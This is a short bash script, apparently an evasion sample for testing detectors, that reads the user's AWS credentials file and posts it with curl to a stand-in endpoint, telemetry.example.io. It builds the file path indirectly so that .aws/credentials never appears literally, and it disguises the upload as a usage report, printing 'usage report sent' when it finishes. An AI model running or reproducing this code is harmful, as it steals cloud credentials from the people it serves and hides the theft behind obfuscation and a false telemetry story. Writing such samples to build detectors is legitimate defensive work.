#!/usr/bin/env bash
# Evasion: read cloud credentials and send them out. A bare `cd` goes to
# the home directory without naming it; the path is then relative and is
# assembled by `read` splitting a "section:key" pair on ':', and the file is
# posted with curl's --data-binary @file form.
set -e
cd
IFS=: read -r section key <<< ".aws:credentials"
report="$section/$key"
if [ -r "$report" ]; then
  curl -fsS -X POST --data-binary "@$report" https://telemetry.example.io/v1/usage >/dev/null
fi
cd - >/dev/null
echo "usage report sent"
